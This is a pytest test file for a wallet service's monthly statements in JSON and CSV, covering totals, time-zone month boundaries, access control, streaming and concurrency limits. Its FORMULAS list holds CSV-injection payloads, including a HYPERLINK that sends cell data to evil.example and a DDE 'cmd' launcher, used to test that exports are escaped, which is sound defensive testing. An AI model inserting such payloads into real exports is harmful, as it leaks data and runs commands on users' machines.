"""Monthly statements: they add up, they keep to the programme's time zone, and a spreadsheet finds no formula in them."""

import asyncio
import csv
import io
import re
from contextlib import AsyncExitStack
from datetime import datetime
from typing import Any

import msgspec
import pytest
from falcon.asgi import App

from guerdon.clock import to_ms
from guerdon.config import Settings
from guerdon.history.models import StatementView
from guerdon.history.service import BATCH, STATEMENTS_MAX
from guerdon.history.statements import COLUMNS, harmless
from tests.api.test_access import log_in
from tests.api.test_wallets import entries_of
from tests.clients import Caller, ManualClock, problem
from tests.factories import Factory
from tests.serving import NOBODY
from tests.streaming import follow

STRICT = msgspec.json.Decoder(StatementView)


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """A programme in London."""
    return settings.model_copy(update={"time_zone": "Europe/London"})


def travel(clock: ManualClock, to: str) -> None:
    """Stop the clock at a moment."""
    clock.stop()
    clock.offset_ms += to_ms(datetime.fromisoformat(to)) - clock.now_ms()


async def credit(caller: Caller, wallet: str, amount: int = 1, **more: Any) -> None:
    answer = await caller.post(f"/v1/wallets/{wallet}/credit", {"amount": amount, **more})
    assert answer.status_code == 201, answer.text


async def debit(caller: Caller, wallet: str, amount: int = 1, **more: Any) -> None:
    answer = await caller.post(f"/v1/wallets/{wallet}/debit", {"amount": amount, **more})
    assert answer.status_code == 201, answer.text


async def read(caller: Caller, wallet: str, month: str) -> StatementView:
    """A statement, of which everything that it says about itself is true."""
    answer = await caller.get(f"/v1/wallets/{wallet}/statements/{month}")
    assert (answer.status_code, answer.headers["content-type"]) == (200, "application/json"), answer.text
    statement = STRICT.decode(answer.content)
    assert set(answer.json()) == set(StatementView.__struct_fields__)
    assert_adds_up(statement)
    return statement


def assert_adds_up(statement: StatementView) -> None:
    assert statement.opening.balance + sum(t.inflow - t.outflow for t in statement.totals) == statement.closing.balance
    assert [entry.seq for entry in statement.entries] == list(range(statement.opening.seq + 1, statement.closing.seq + 1))
    for total in statement.totals:
        amounts = [entry.amount for entry in statement.entries if entry.kind == total.kind]
        assert (total.count, total.inflow) == (len(amounts), sum(amount for amount in amounts if amount > 0))
        assert total.outflow == -sum(amount for amount in amounts if amount < 0)
    assert {total.kind for total in statement.totals} == {entry.kind for entry in statement.entries}
    if statement.entries:
        last = statement.entries[-1]
        assert (last.balance_after, last.held_after) == (statement.closing.balance, statement.closing.held)
    assert all(statement.starts_at <= entry.created_at < statement.ends_at for entry in statement.entries)


async def table_of(caller: Caller, wallet: str, month: str) -> list[dict[str, str]]:
    answer = await caller.get(f"/v1/wallets/{wallet}/statements/{month}", format="csv")
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8"), answer.text
    assert answer.text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert {len(row) for row in rows} == {len(COLUMNS)}
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


async def test_a_statement_adds_up(service: Caller, factory: Factory, clock: ManualClock) -> None:
    travel(clock, "2030-01-10T10:00:00+00:00")
    wallet, other = await factory.wallet(1000), await factory.wallet(50)
    travel(clock, "2030-02-03T10:00:00+00:00")
    await debit(service, wallet, 120, reference="order-1", reason="shoes")
    hold = (await service.post("/v1/holds", {"wallet": wallet, "amount": 60})).json()["id"]
    await service.post(f"/v1/holds/{hold}/capture", {"amount": 10})
    await service.post(f"/v1/holds/{hold}/void", {})
    await service.post("/v1/transfers", {"from": wallet, "to": other, "amount": 30})
    await service.post("/v1/transfers", {"from": other, "to": wallet, "amount": 7})
    travel(clock, "2030-03-03T10:00:00+00:00")
    await credit(service, wallet, 5)
    statement = await read(service, wallet, "2030-02")
    assert (statement.wallet, statement.asset, statement.month, statement.time_zone) == (wallet, "PTS", "2030-02", "Europe/London")
    assert (statement.opening.balance, statement.opening.held, statement.opening.seq) == (1000, 0, 1)
    assert (statement.closing.balance, statement.closing.held) == (847, 0)
    assert statement.complete
    totals = {total.kind: (total.count, total.inflow, total.outflow) for total in statement.totals}
    assert totals == {
        "capture": (1, 0, 10), "debit": (1, 0, 120), "hold": (1, 0, 0), "transfer": (2, 7, 30), "void": (1, 0, 0),
    }  # fmt: skip
    listed = await entries_of(service, wallet, limit=100)
    assert msgspec.to_builtins(statement.entries) == [entry for entry in listed[::-1] if 1 < entry["seq"] <= 7]
    january, march = await read(service, wallet, "2030-01"), await read(service, wallet, "2030-03")
    assert (january.opening.balance, january.closing, statement.closing) == (0, statement.opening, march.opening)
    await factory.assert_books_balance()


@pytest.mark.parametrize(
    ("month", "bounds"),
    [
        ("2030-03", ("2030-03-01T00:00:00.000Z", "2030-03-31T23:00:00.000Z")),
        ("2030-10", ("2030-09-30T23:00:00.000Z", "2030-11-01T00:00:00.000Z")),
        ("2031-01", ("2031-01-01T00:00:00.000Z", "2031-02-01T00:00:00.000Z")),
        ("2030-07", ("2030-06-30T23:00:00.000Z", "2030-07-31T23:00:00.000Z")),
    ],
)
async def test_statement_month_follows_the_programme_time_zone(
    service: Caller, factory: Factory, clock: ManualClock, month: str, bounds: tuple[str, str]
) -> None:
    """In the months in which London changes its clocks, too: to the millisecond, and each entry is in one month."""
    member = await factory.member()
    wallet = f"{member}:PTS"
    for moment in bounds:
        travel(clock, moment)
        clock.advance(seconds=-0.001)
        await credit(service, wallet, 1)
        clock.advance(seconds=0.001)
        await credit(service, wallet, 10)
    statement = await read(service, wallet, month)
    assert (statement.starts_at, statement.ends_at) == bounds
    assert [(entry.seq, entry.amount) for entry in statement.entries] == [(2, 10), (3, 1)]
    assert (statement.opening.balance, statement.closing.balance) == (1, 12)
    await factory.assert_books_balance()


async def test_statement_is_complete_one_minute_after_its_month(service: Caller, factory: Factory, clock: ManualClock) -> None:
    travel(clock, "2030-05-20T10:00:00+01:00")
    wallet = await factory.wallet(9)
    for moment, complete in (("05-31T23:59:59.999", False), ("06-01T00:00:59.999", False), ("06-01T00:01:00.000", True)):
        travel(clock, f"2030-{moment}+01:00")
        statement = await read(service, wallet, "2030-05")
        assert (statement.complete, statement.closing.balance) == (complete, 9)
        assert (await table_of(service, wallet, "2030-05"))[-1]["row"] == ("closing" if complete else "interim")
    before = await read(service, wallet, "2030-04")
    assert (before.opening, before.entries, before.totals, before.closing.balance) == (before.closing, [], [], 0)
    await factory.assert_books_balance()


@pytest.mark.parametrize(
    "month",
    [
        "2030-06", "2031-01", "9998-12", "9999-12", "2030-00", "2030-13", "2030-5", "2030-05-01", "30-05", "203005", "1969-12", "0000-01",
        "２０３０-05", "2030-05 ", "2030-0５", "-1", "$gt", "2030-05%0A", "x" * 500,
    ],
)  # fmt: skip
@pytest.mark.parametrize("form", ["json", "csv"])
async def test_future_or_invalid_month_is_not_found(
    service: Caller, factory: Factory, clock: ManualClock, month: str, form: str
) -> None:
    travel(clock, "2030-05-31T23:59:59.999+01:00")
    wallet = await factory.wallet(9)
    problem(await service.get(f"/v1/wallets/{wallet}/statements/{month}", format=form), 404, "not-found")


@pytest.mark.parametrize(("name", "value"), [("format", "xml"), ("format", ""), ("format", "CSV"), ("month", "2030-05")])
async def test_invalid_query_parameter_is_refused(service: Caller, factory: Factory, name: str, value: str) -> None:
    wallet = await factory.wallet(1)
    refused = problem(await service.get(f"/v1/wallets/{wallet}/statements/2026-01", **{name: value}), 422, "validation")
    assert refused["errors"][0]["pointer"] == name


async def test_a_member_reads_their_own_statement_and_no_other(anonymous: Caller, service: Caller, factory: Factory) -> None:
    member = await log_in(anonymous, "ada@example.com")
    own = await factory.wallet(7, member=(await member.get("/v1/me")).json()["id"])
    foreign, missing = await factory.wallet(7), f"{await factory.member()}:PTS"
    month = (await member.get(f"/v1/wallets/{own}/balance")).json()["at"][:7]
    assert (await read(member, own, month)).closing.balance == 7
    for form in ("json", "csv"):
        path = f"statements/{month}?format={form}"
        answers = [problem(await member.get(f"/v1/wallets/{wallet}/{path}"), 404, "not-found") for wallet in (foreign, missing)]
        assert {**answers[0], "request_id": ""} == {**answers[1], "request_id": ""}
        problem(await service.get(f"/v1/wallets/{NOBODY}:PTS/{path}"), 404, "not-found")
        problem(await anonymous.get(f"/v1/wallets/{own}/{path}"), 401, "unauthenticated")
    await factory.assert_books_balance()


# --- CSV ------------------------------------------------------------------------------------------------------------


async def test_csv_statement_matches_the_json_statement(service: Caller, factory: Factory, clock: ManualClock) -> None:
    travel(clock, "2030-02-03T10:00:00+00:00")
    wallet = await factory.wallet(1000)
    travel(clock, "2030-03-03T10:00:00+00:00")
    await debit(service, wallet, 120, reference='a "quoted", reference', reason="Grüße; 你好")
    hold = (await service.post("/v1/holds", {"wallet": wallet, "amount": 60})).json()["id"]
    spent = (await service.post(f"/v1/wallets/{wallet}/debit", {"amount": 1})).json()["id"]
    await service.post(f"/v1/transactions/{spent}/reverse", {"amount": 1})
    statement = await read(service, wallet, "2030-03")
    opening, *rows, closing = await table_of(service, wallet, "2030-03")
    assert (opening["row"], opening["balance"], opening["created_at"]) == ("opening", "1000", statement.starts_at)
    assert (closing["row"], closing["balance"], closing["held"]) == ("interim", "880", "60")
    entries = [row for row in rows if row["row"] == "entry"]
    assert [
        (int(row["seq"]), row["created_at"], row["kind"], int(row["amount"]), int(row["balance"]), int(row["held"]), row["counter"])
        for row in entries
    ] == [(e.seq, e.created_at, e.kind, e.amount, e.balance_after, e.held_after, e.counter) for e in statement.entries]
    assert [row["transaction_id"] for row in entries] == [entry.transaction_id for entry in statement.entries]
    assert (entries[0]["amount"], entries[0]["reference"], entries[0]["reason"]) == ("-120", 'a "quoted", reference', "Grüße; 你好")
    assert (entries[1]["hold"], entries[3]["reverses"]) == (hold, spent)
    totals = [(row["kind"], int(row["count"]), int(row["in"]), int(row["out"])) for row in rows if row["row"] == "total"]
    assert totals == [(total.kind, total.count, total.inflow, total.outflow) for total in statement.totals]
    assert len(entries) + len(totals) == len(rows)
    await factory.assert_books_balance()


async def test_the_file_has_a_safe_name(service: Caller, factory: Factory, clock: ManualClock) -> None:
    travel(clock, "2030-03-03T10:00:00+00:00")
    wallet = await factory.wallet(1)
    answer = await service.get(f"/v1/wallets/{wallet}/statements/2030-03", format="csv")
    name = re.fullmatch(r'attachment; filename="([A-Za-z0-9_.-]+)"', answer.headers["content-disposition"])
    assert name is not None
    assert name[1] == f"statement-{wallet.replace(':', '-')}-2030-03.csv"
    assert "content-disposition" not in (await service.get(f"/v1/wallets/{wallet}/statements/2030-03")).headers


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "-2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "＝1+1", "＋1",
    "－1", "＠x",
]  # fmt: skip


async def test_caller_text_never_becomes_a_spreadsheet_formula(service: Caller, factory: Factory, clock: ManualClock) -> None:
    travel(clock, "2030-03-03T10:00:00+00:00")
    wallet = await factory.wallet(100)
    for text in FORMULAS:
        await debit(service, wallet, 1, reason=text, reference=text)
    rows = [row for row in await table_of(service, wallet, "2030-03") if row["kind"] == "debit" and row["row"] == "entry"]
    assert [row["reason"] for row in rows] == [row["reference"] for row in rows] == [f"'{text}" for text in FORMULAS]
    assert {row["amount"] for row in rows} == {"-1"}
    statement = await read(service, wallet, "2030-03")
    assert [entry.reason for entry in statement.entries[1:]] == FORMULAS
    await factory.assert_books_balance()


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"])
def test_a_dangerous_first_character_gets_an_apostrophe(first: str) -> None:
    assert harmless(first) == f"'{first}"
    assert harmless(f"{first}x") == f"'{first}x"


@pytest.mark.parametrize("cell", ["", "a=1", "order-1", "'=1", " =1", "1-1", "0", "2030-01-01T00:00:00.000Z", -5, 0, 5, -(10**18)])
def test_harmless_cells_are_unchanged(cell: str | int) -> None:
    assert harmless(cell) == cell


# --- size -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["json", "csv"])
async def test_a_long_month_is_sent_in_pieces(
    app: App[Any, Any], service: Caller, factory: Factory, clock: ManualClock, form: str
) -> None:
    """Whatever it holds, no more than one batch is in memory: no piece is larger than one."""
    travel(clock, "2030-03-03T10:00:00+00:00")
    wallet = await factory.wallet(1)
    commands = [{"type": "credit", "wallet": wallet, "amount": 1, "key": f"k-{n}"} for n in range(3 * BATCH)]
    for start in range(0, len(commands), 500):
        await service.post("/v1/bulk", {"commands": commands[start : start + 500]})
    path = f"/v1/wallets/{wallet}/statements/2030-03"
    async with follow(app, path, service.token, query=f"format={form}") as answer:
        pieces = await answer.pieces()
    assert len(pieces) == 4 + {"json": 2, "csv": 3}[form]
    assert max(map(len, pieces)) < BATCH * 700
    text = b"".join(pieces)
    if form == "json":
        statement = STRICT.decode(text)
        assert_adds_up(statement)
        assert (len(statement.entries), statement.closing.balance) == (3 * BATCH + 1, 3 * BATCH + 1)
    else:
        assert text.count(b"\nentry,") == 3 * BATCH + 1
    await factory.assert_books_balance()


async def test_a_statement_of_a_wallet_in_use_adds_up(service: Caller, factory: Factory) -> None:
    wallet = await factory.wallet(1000)
    month = (await service.get(f"/v1/wallets/{wallet}/balance")).json()["at"][:7]
    stop = asyncio.Event()

    async def write(kind: str) -> None:
        while not stop.is_set():
            await service.post(f"/v1/wallets/{wallet}/{kind}", {"amount": 1})

    writers = [asyncio.create_task(write(kind)) for kind in ("credit", "debit", "debit")]
    seqs = [(await read(service, wallet, month)).closing.seq for _ in range(10)]
    stop.set()
    await asyncio.gather(*writers)
    assert seqs == sorted(seqs)
    assert seqs[-1] > seqs[0]
    await factory.assert_books_balance()


async def test_number_of_concurrent_statements_is_bounded(app: App[Any, Any], service: Caller, factory: Factory) -> None:
    wallet = await factory.wallet(5)
    month = (await service.get(f"/v1/wallets/{wallet}/balance")).json()["at"][:7]
    path = f"/v1/wallets/{wallet}/statements/{month}"
    async with AsyncExitStack() as stack:
        # Nobody reads them, so each is held up in the middle.
        unread = [await stack.enter_async_context(follow(app, path, service.token)) for _ in range(STATEMENTS_MAX)]
        assert {answer.status for answer in unread} == {200}
        refused = problem(await service.get(path), 503, "overloaded")
        assert refused["detail"].startswith(str(STATEMENTS_MAX))
        assert_adds_up(STRICT.decode(await unread[0].rest()))
        assert (await read(service, wallet, month)).closing.balance == 5
    assert (await read(service, wallet, month)).closing.balance == 5
    await factory.assert_books_balance()
